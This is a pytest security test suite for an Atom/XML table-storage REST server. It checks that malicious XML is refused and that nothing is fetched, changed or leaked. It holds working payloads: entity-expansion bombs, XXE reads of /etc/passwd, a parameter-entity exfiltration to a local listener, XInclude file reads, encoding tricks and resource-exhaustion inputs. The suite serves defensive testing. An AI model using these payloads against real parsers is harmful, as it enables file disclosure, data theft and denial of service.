# SPDX-License-Identifier: MIT
"""XML that is sent to do harm: refused with 400, nothing fetched, nothing changed, and the
server as quick and as small as before."""

import http.client
import os
import socket
import threading

import pytest

import atom
from atom import ATOM, D, M, Feed, string
from rest_client import entity_path, ok, parse_batch

GOOD = atom.entry({"PartitionKey": string("p"), "RowKey": string("new"), "V": string("@")})
HEAD = atom.HEAD
BARE = GOOD[len(HEAD):]
CODES = ("InvalidInput", "InvalidXmlDocument")
LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))


def doctype(inside, value="&e;"):
    return f"{HEAD}<!DOCTYPE entry [{inside}]>{BARE.replace('@', value)}"


def value(text):
    return GOOD.replace("@", text)


def encoded(name, codec, bom=b""):
    return bom + GOOD.replace('encoding="utf-8"', f'encoding="{name}"').encode(codec)


def spaces(n, name="x"):
    return " ".join(f'xmlns:{name}{i}="urn:{i}"' for i in range(n))


ATTACKS = {
    # entities
    "billion laughs": doctype(f'<!ENTITY l0 "lol">{LAUGHS}', "&l9;"),
    "quadratic blow-up": doctype(f'<!ENTITY e "{"a" * 50000}">', "&e;" * 20000),
    "in an attribute": doctype(f'<!ENTITY l0 "lol">{LAUGHS}', "x").replace(
        'type="application/xml"', 'type="&l9;"'),
    "defined by itself": doctype('<!ENTITY e "&f;"><!ENTITY f "&e;">'),
    "file:": doctype('<!ENTITY e SYSTEM "file:///etc/passwd">'),
    "file: without a scheme": doctype('<!ENTITY e SYSTEM "/etc/passwd">'),
    "http:": doctype('<!ENTITY e SYSTEM "http://127.0.0.1:PORT/e">'),
    "ftp:": doctype('<!ENTITY e SYSTEM "ftp://127.0.0.1:PORT/e">'),
    "public": doctype('<!ENTITY e PUBLIC "-//x" "http://127.0.0.1:PORT/e">'),
    "parameter": doctype('<!ENTITY % p SYSTEM "http://127.0.0.1:PORT/p"> %p;', "x"),
    "parameter, nested": doctype('<!ENTITY % f SYSTEM "file:///etc/passwd"><!ENTITY % p '
                                 "\"<!ENTITY e SYSTEM 'http://127.0.0.1:PORT/?%f;'>\">%p;"),
    "device": doctype('<!ENTITY e SYSTEM "file:///dev/zero">'),
    "not used": doctype('<!ENTITY e "x">', "x"),
    "unknown": value("&nosuch;"),
    "unparsed": doctype('<!NOTATION n SYSTEM "x"><!ENTITY e SYSTEM "x" NDATA n>', "x"),
    # document types
    "a type, empty": f"{HEAD}<!DOCTYPE entry>{BARE}",
    "a type by http:": f'{HEAD}<!DOCTYPE entry SYSTEM "http://127.0.0.1:PORT/d">{BARE}',
    "a type by file:": f'{HEAD}<!DOCTYPE entry SYSTEM "file:///etc/passwd">{BARE}',
    "attributes by default": doctype(f'<!ATTLIST entry xmlns CDATA "{ATOM}">', "x"),
    "elements declared": doctype("<!ELEMENT entry ANY>", "x"),
    "conditional": doctype("<![INCLUDE[<!ENTITY e 'x'>]]>", "x"),
    "a type that does not end": f"{HEAD}<!DOCTYPE entry [" + "<!-- x -->" * 1000,
    # shapes
    "deep": f"{HEAD}{'<a>' * 100000}",
    "deep and whole": f"{HEAD}{'<a>' * 50000}{'</a>' * 50000}",
    "deep in a value": value("<a>" * 5000 + "</a>" * 5000),
    "deep beside the content": GOOD.replace("<content", "<a>" * 5000 + "</a>" * 5000 + "<content"),
    "elements in a value": value("<b>x</b>"),
    "an inclusion": value('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" '
                          'href="file:///etc/passwd"/>'),
    "two roots": GOOD + BARE,
    "text behind": GOOD + "x",
    "text before": "x" + GOOD,
    "an element behind": GOOD + "<a/>",
    "a declaration behind": GOOD + HEAD,
    "blanks before the declaration": " " + GOOD,
    "nothing": "",
    "blanks": " \n ",
    "a declaration alone": HEAD,
    "no markup": "PartitionKey=p",
    "JSON": '{"PartitionKey":"p","RowKey":"new"}',
    "tags crossed": GOOD.replace("</content></entry>", "</entry></content>"),
    "& alone": value("a & b"),
    "<": value("a < b"),
    "]]>": value("a ]]> b"),
    "<<<": "<" * 100000,
    "&&&": value("&" * 100000),
    "&#&#": value("&#" * 50000),
    "CDATA that does not end": value("<![CDATA[x"),
    "a comment that does not end": value("<!-- x"),
    "-- in a comment": value("<!-- a -- b -->"),
    "an instruction that does not end": value("<?x"),
    "an instruction named xml": value("<?xml version='1.0'?>"),
    # names and attributes
    "a huge name": f"{HEAD}<{'a' * 3000000}/>",
    "a huge prefix": f"{HEAD}<{'a' * 1000000}:b/>",
    "a huge property": GOOD.replace("d:V>", f"d:{'V' * 1000000}>"),
    "a huge attribute": GOOD.replace("<entry ", f'<entry a="{"x" * 3000000}" ').replace(
        "d:V", "d:V-"),
    "a huge type": GOOD.replace("<d:V>", f'<d:V m:type="{"x" * 1000000}">'),
    "a huge namespace": GOOD.replace("<entry ", f'<entry xmlns:x="{"x" * 1000000}" ').replace(
        "d:V", "x:V-"),
    "attributes": f"{HEAD}<entry " + " ".join(f'a{n}=""' for n in range(350000)) + "/>",
    "attributes in many tags": GOOD.replace("<content", "".join(
        "<x " + " ".join(f"a{n}=''" for n in range(19000)) + "/>" for _ in range(18)) + "<content"),
    "attributes, none of them whole": f"{HEAD}<entry>" + "".join(
        "<x " + " ".join(f"a{n}=''" for n in range(19000)) + " b" for _ in range(18)),
    "attributes behind a mistake": f"{HEAD}<entry><?1 <x " + " ".join(
        f"a{n}=''" for n in range(350000)) + "/>",
    "attributes behind other quotes": HEAD + """<entry a="<x '" b='""" + "<x " + " ".join(
        f"a{n}=''" for n in range(350000)) + "/>",
    "names of elements": GOOD.replace("<content", "".join(
        f"<x{n}/>" for n in range(350000)) + "<content"),
    "names behind a mistake": f"{HEAD}<entry>\x01" + "".join(f"<x{n}/>" for n in range(350000)),
    "instructions, each with a name of its own": GOOD.replace("<content", "".join(
        f"<?a{n}?>" for n in range(350000)) + "<content"),
    "names of entities": f"{HEAD}<entry>" + "".join(f"&x{n};" for n in range(350000)),
    "attributes that hold tags": HEAD + "<entry " + " ".join(
        f'a{n}="<>"' for n in range(200000)) + "/>",
    "namespaces": f"{HEAD}<entry {spaces(150000)}/>",
    "namespaces, over and over": HEAD + "".join(f"<a{n} {spaces(50)}>" for n in range(1000)),
    "an attribute twice": GOOD.replace("<d:V>", '<d:V m:type="Edm.String" m:type="Edm.Int32">'),
    "an attribute twice by its namespace": GOOD.replace(
        "<d:V>", f'<d:V m:type="Edm.String" xmlns:n="{M}" n:type="Edm.Int32">'),
    "an attribute without quotes": GOOD.replace("<d:V>", "<d:V m:type=Edm.String>"),
    "< in an attribute": GOOD.replace("<d:V>", '<d:V m:type="<">'),
    "a prefix that is none": GOOD.replace("d:V", "q:V"),
    "a prefix that is none, elsewhere": GOOD.replace("<content", "<q:x/><content"),
    "two colons": GOOD.replace("d:V", "d:V:W"),
    "a name that is none": GOOD.replace("d:V", "d:1V"),
    # namespaces
    "no namespaces": f"{HEAD}<entry><content><properties><PartitionKey>p</PartitionKey>"
                     "<RowKey>new</RowKey></properties></content></entry>",
    "another Atom": GOOD.replace(ATOM, "http://purl.org/atom/ns#"),
    "other metadata": GOOD.replace(M, M + "x"),
    "other data": GOOD.replace(f'"{D}"', f'"{D}x"'),
    "a feed": f'{HEAD}<feed xmlns="{ATOM}">{BARE}</feed>',
    "another root": f'{HEAD}<x xmlns="{ATOM}">{BARE}</x>',
    # characters and encodings
    "NUL": value("\0"),
    "NUL outside": f"{HEAD}\0{BARE}",
    "NUL behind": GOOD + "\0",
    "a control character": value("\x01"),
    "U+FFFE": value("\ufffe"),
    "a reference beyond Unicode": value("&#x110000;"),
    "a reference to half a pair": value("&#xD800;"),
    "a reference that overflows": value("&#4294967361;"),
    "a reference of a megabyte": value(f"&#{'0' * 1000000}65"),
    "a reference without number": value("&#;"),
    "a reference outside of the root": f"{HEAD}&#65;{BARE}",
    "bytes that are no UTF-8": GOOD.encode().replace(b"@", b"\xff\xfe"),
    "UTF-8 too long": GOOD.encode().replace(b"@", b"\xc0\xbcb\xc0\xbe"),
    "UTF-16 said, not so": GOOD.replace('encoding="utf-8"', 'encoding="utf-16"').replace(
        "d:V", "d:V-"),
    "UTF-16 without a mark": encoded("utf-16", "utf-16-le"),
    "UTF-7": encoded("utf-7", "utf-7"),
    "UTF-7, to get < through": HEAD.replace("utf-8", "utf-7") + BARE.replace("<", "+ADw-"),
    "UTF-32": encoded("utf-32", "utf-32"),
    "EBCDIC": encoded("cp037", "cp037"),
    "an encoding that is none": encoded("nonsense", "utf-8"),
    "an encoding of a megabyte": encoded("x" * 1000000, "utf-8"),
    "version 9": GOOD.replace('version="1.0"', 'version="9.0"').replace("d:V", "d:V-"),
    "broken declaration": GOOD.replace("?>", ">", 1),
}
# Two readings are possible: what was meant, or 400.
HARMLESS = {
    "UTF-16 with a mark": encoded("utf-16", "utf-16"),
    "UTF-16, big end first": encoded("utf-16", "utf-16-be", b"\xfe\xff"),
    "Latin 1": encoded("iso-8859-1", "latin-1"),
    "a stylesheet": GOOD.replace(HEAD, HEAD + '<?xml-stylesheet type="text/xsl" '
                                 'href="http://127.0.0.1:PORT/s"?>'),
    "instructions": GOOD.replace("<content", "<?php system('x')?><content"),
    "a place of a schema": GOOD.replace("<entry ", '<entry xmlns:i="http://www.w3.org/2001/'
                                        'XMLSchema-instance" i:schemaLocation='
                                        '"urn:x http://127.0.0.1:PORT/x" '),
    "an inclusion beside the content": GOOD.replace(
        "<content", '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" '
        'href="http://127.0.0.1:PORT/i"/><content'),
    "another source": GOOD.replace('type="application/xml"',
                                   'src="http://127.0.0.1:PORT/c" type="application/xml"'),
    "an xml:base": GOOD.replace("<entry ", '<entry xml:base="http://127.0.0.1:PORT/" '),
}


def bodies(table):
    """Of test parameters; PORT is put in later."""
    return [pytest.param(text if isinstance(text, bytes) else text.encode(), id=name)
            for name, text in table.items()]


@pytest.fixture(scope="module")
def listener():
    """A port that nobody may come to: (number, who came)."""
    came = []
    with socket.create_server(("127.0.0.1", 0)) as s:
        def wait():
            while True:
                try:
                    came.append(s.accept()[1])
                except OSError:
                    return

        thread = threading.Thread(target=wait, daemon=True)
        thread.start()
        yield s.getsockname()[1], came
        s.shutdown(socket.SHUT_RDWR)
        thread.join(60)


@pytest.fixture(scope="module")
def secret():
    with open("/etc/passwd", "rb") as f:
        return f.readline().strip()


@pytest.fixture
def client(rest):
    with atom.Client(rest.port, version="2015-07-08") as one:
        yield one


def cpu_seconds(server):
    with open(f"/proc/{server.proc.pid}/stat", "rb") as f:
        fields = f.read().rpartition(b")")[2].split()
    return sum(map(int, fields[11:13])) / os.sysconf("SC_CLK_TCK")


def peak_mib(server):
    with open(f"/proc/{server.proc.pid}/status") as f:
        return int(next(line for line in f if line.startswith("VmHWM")).split()[1]) / 1024


def in_batch(tab, body):
    """A change set with this in its middle; too large a one would be another refusal."""
    head = (b"--b\r\nContent-Type: multipart/mixed; boundary=c\r\n\r\n--c\r\n"
            b"Content-Type: application/http\r\nContent-Transfer-Encoding: binary\r\n\r\n"
            b"POST http://localhost/devstoreaccount1/" + tab.encode() + b" HTTP/1.1\r\n"
            b"Content-Type: application/atom+xml\r\nContent-Length: " + str(len(body)).encode())
    return head + b"\r\n\r\n" + body + b"\r\n--c--\r\n--b--\r\n"


@pytest.mark.parametrize("body", bodies(ATTACKS))
def test_R19_attacks_are_refused(module_server, client, tab, listener, secret, body):
    body = body.replace(b"PORT", str(listener[0]).encode())
    ok(client.insert(tab, {"PartitionKey": string("p"), "RowKey": string("kept")}), 201)
    before, peak = cpu_seconds(module_server), peak_mib(module_server)
    for method, path, headers in (
            ("POST", tab, {}), ("PUT", entity_path(tab, "p", "kept"), {"If-Match": "*"}),
            ("MERGE", entity_path(tab, "p", "new"), {}), ("POST", "Tables", {})):
        answer = client.request(method, path, body, headers)
        atom.fails(answer, 400, CODES + ("PropertiesNeedValue", "PropertyNameInvalid",
                                         "PropertyNameTooLong"))
        assert secret not in answer.body and len(answer.body) < 8192
    whole = client.request("POST", "$batch", in_batch(tab, body),
                           {"Content-Type": "multipart/mixed; boundary=b"})
    if whole.status == 202:
        (part,) = parse_batch(whole)
        assert part.status == 400 and secret not in part.body
        atom.is_error(part.body, part.code)
    else:  # blanks are no body of a part, so the batch itself is not whole
        atom.fails(whole, 400, CODES)
        assert not body.strip()
    assert [e.row["RowKey"][1] for e in Feed(client.query(tab)).entries] == ["kept"]
    # Five bodies of up to 4 MiB.
    assert cpu_seconds(module_server) - before < 5
    assert peak_mib(module_server) - peak < 300
    assert listener[1] == []


@pytest.mark.parametrize("body", bodies(HARMLESS))
def test_R19_what_is_said_about_other_places_is_not_fetched(client, tab, listener, secret, body):
    body = body.replace(b"PORT", str(listener[0]).encode())
    answer = client.insert(tab, body)
    if answer.status == 201:
        assert atom.read_entry(answer).own == {"V": string("@")}
    else:
        atom.fails(answer, 400, CODES)
    assert secret not in answer.body and listener[1] == []


def test_R19_an_entry_cut_at_each_byte(client, tab):
    whole = atom.entry({"PartitionKey": string("p"), "RowKey": string("n\u00e9w"),
                        "V": ("Edm.Int32", "1"), "W": string("a&amp;b\x01")}).encode()
    for n in range(len(whole)):
        atom.fails(client.insert(tab, whole[:n]), 400, CODES)
    assert Feed(client.query(tab)).rows == []
    ok(client.insert(tab, whole), 201)


def test_R19_an_entry_spoilt_at_each_byte(client, tab):
    whole = bytearray(value("a&lt;b").encode())
    for n in range(len(whole)):
        for bad in (0, 0xff):
            spoilt = bytes(whole[:n]) + bytes([bad]) + bytes(whole[n + 1:])
            atom.fails(client.insert(tab, spoilt), 400, CODES)
    assert Feed(client.query(tab)).rows == []


def test_R19_an_entry_in_slices_of_each_size(client, tab):
    """The reader is not told where a piece of the network ends, so it cannot matter."""
    target = client.target(tab)
    sizes = [*range(1, 33), 64, 100, 333]
    with client.connect() as s:
        for size in sizes:
            body = value("x\u20ac" * 50).replace(">new<", f">{size}<").encode()
            send = client.headers_for("POST", target, body, {"content-type": atom.ENTRY}, "lite")
            lines = [f"POST {target} HTTP/1.1", *(f"{k}: {v}" for k, v in send.items()), "", ""]
            whole = "\r\n".join(lines).encode() + body
            for n in range(0, len(whole), size):
                s.sendall(whole[n:n + size])
            with http.client.HTTPResponse(s, method="POST") as answer:
                answer.begin()
                text = answer.read()
            assert answer.status == 201, (size, text)
    have = {e.row["RowKey"][1]: e.own for e in Feed(client.query(tab)).entries}
    assert have == {str(size): {"V": string("x\u20ac" * 50)} for size in sizes}


def test_R19_the_server_is_as_it_was(module_server, client, tab):
    """After all of it: it answers, and is no larger than its bounds."""
    for n in range(20):
        ok(client.insert(tab, {"PartitionKey": string("p"), "RowKey": string(str(n))}), 201)
    assert len(Feed(client.query(tab)).entries) == 20
    assert module_server.rss_kib() < 600 * 1024
    module_server._scan()
